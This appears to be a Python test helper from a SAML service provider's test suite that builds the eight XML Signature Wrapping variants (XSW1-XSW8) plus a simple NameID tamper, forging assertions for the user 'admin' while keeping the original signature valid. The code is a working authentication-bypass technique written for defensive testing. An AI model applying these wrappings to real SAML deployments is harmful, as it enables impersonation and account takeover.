"""An attacker's edits of a genuinely signed SAML Response: the eight XML Signature Wrapping
placements of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security
2012, section 5 and figure 5; named XSW1-XSW8 as in SAML Raider), and other tampering.

Every wrapping keeps the signed element byte-for-byte as the IdP signed it (exclusive c14n does not
care where namespace declarations sit), so xmlsec1 alone still finds a valid signature: only the
SP's own structure checks can refuse the evil assertion. The evil assertion names EVIL_NAME_ID.
"""
from __future__ import annotations

import copy
from xml.etree import ElementTree as ET

from tests.federation.standins.saml_messages import DS, SAML, SAMLP

EVIL_NAME_ID = "admin"
for _prefix, _uri in (("samlp", SAMLP), ("saml", SAML), ("ds", DS), ("xenc", "http://www.w3.org/2001/04/xmlenc#")):
    ET.register_namespace(_prefix, _uri)

RESPONSE_SIGNED = ("xsw1", "xsw2")        # wrap a signed Response
ASSERTION_SIGNED = ("xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8")  # wrap a signed Assertion


def _q(ns: str, name: str) -> str:
    return f"{{{ns}}}{name}"


def _without_signature(element: ET.Element) -> ET.Element:
    clone = copy.deepcopy(element)
    for signature in clone.findall(_q(DS, "Signature")):
        clone.remove(signature)
    return clone


def _evil(assertion: ET.Element, new_id: str | None = "_evil_assertion") -> ET.Element:
    """A copy of `assertion`, unsigned, for EVIL_NAME_ID (with another ID unless new_id is None)."""
    evil = _without_signature(assertion)
    if new_id:
        evil.set("ID", new_id)
    evil.find(f"{_q(SAML, 'Subject')}/{_q(SAML, 'NameID')}").text = EVIL_NAME_ID
    return evil


def _parts(xml: str) -> tuple[ET.Element, ET.Element, ET.Element | None]:
    root = ET.fromstring(xml)
    assertion = root.find(_q(SAML, "Assertion"))
    return root, assertion, assertion.find(_q(DS, "Signature"))


def _serialize(root: ET.Element) -> str:
    return ET.tostring(root, encoding="unicode")


def xsw(variant: str, signed_xml: str) -> str:
    """The `variant` wrapping of `signed_xml` (Response-signed for xsw1/xsw2, else assertion-signed)."""
    return _serialize(globals()[f"_{variant}"](*_parts(signed_xml)))


def _evil_response(root: ET.Element, assertion: ET.Element, clone_position: str) -> ET.Element:
    """XSW1/XSW2: a new Response (new ID, evil assertion) carrying the original Signature, with the
    original Response, unsigned, inside that Signature (XSW1) or before it (XSW2)."""
    original = _without_signature(root)
    evil = copy.deepcopy(root)
    evil.set("ID", "_evil_response")
    evil_signature = evil.find(_q(DS, "Signature"))
    evil.remove(evil.find(_q(SAML, "Assertion")))
    evil.append(_evil(assertion))
    if clone_position == "in_signature":
        evil_signature.append(original)
    else:
        evil.insert(list(evil).index(evil_signature), original)
    return evil


def _xsw1(root, assertion, _signature):
    return _evil_response(root, assertion, "in_signature")


def _xsw2(root, assertion, _signature):
    return _evil_response(root, assertion, "before_signature")


def _xsw3(root, assertion, _signature):
    """An evil assertion (new ID) before the signed one, both children of the Response."""
    root.insert(list(root).index(assertion), _evil(assertion))
    return root


def _xsw4(root, assertion, _signature):
    """An evil assertion (new ID) wrapping the signed one."""
    evil = _evil(assertion)
    root.remove(assertion)
    evil.append(assertion)
    root.append(evil)
    return root


def _xsw5(root, assertion, signature):
    """The evil assertion takes the signed one's ID and its Signature; the original, unsigned, is
    appended at the end of the Response."""
    evil = _evil(assertion, new_id=None)
    evil.insert(1, copy.deepcopy(signature))
    original = _without_signature(assertion)
    root.remove(assertion)
    root.append(evil)
    root.append(original)
    return root


def _xsw6(root, assertion, signature):
    """As XSW5, with the original, unsigned, inside the evil assertion's Signature."""
    evil = _evil(assertion, new_id=None)
    moved = copy.deepcopy(signature)
    moved.append(_without_signature(assertion))
    evil.insert(1, moved)
    root.remove(assertion)
    root.append(evil)
    return root


def _xsw7(root, assertion, _signature):
    """An evil assertion (new ID) in samlp:Extensions, before the signed one."""
    extensions = ET.Element(_q(SAMLP, "Extensions"))
    extensions.append(_evil(assertion))
    root.insert(1, extensions)
    return root


def _xsw8(root, assertion, signature):
    """The evil assertion takes the signed one's ID and Signature, with the original, unsigned,
    inside a ds:Object of that Signature."""
    evil = _evil(assertion, new_id=None)
    moved = copy.deepcopy(signature)
    holder = ET.SubElement(moved, _q(DS, "Object"))
    holder.append(_without_signature(assertion))
    evil.insert(1, moved)
    root.remove(assertion)
    root.append(evil)
    return root


def replace_name_id(signed_xml: str, new_value: str) -> str:
    """The signed response with its NameID changed after signing (a plain edit: the digest breaks)."""
    root, assertion, _ = _parts(signed_xml)
    assertion.find(f"{_q(SAML, 'Subject')}/{_q(SAML, 'NameID')}").text = new_value
    return _serialize(root)


def reserialize(signed_xml: str) -> str:
    """The same document through ElementTree, untampered (shows the wrappers keep signatures valid)."""
    return _serialize(ET.fromstring(signed_xml))
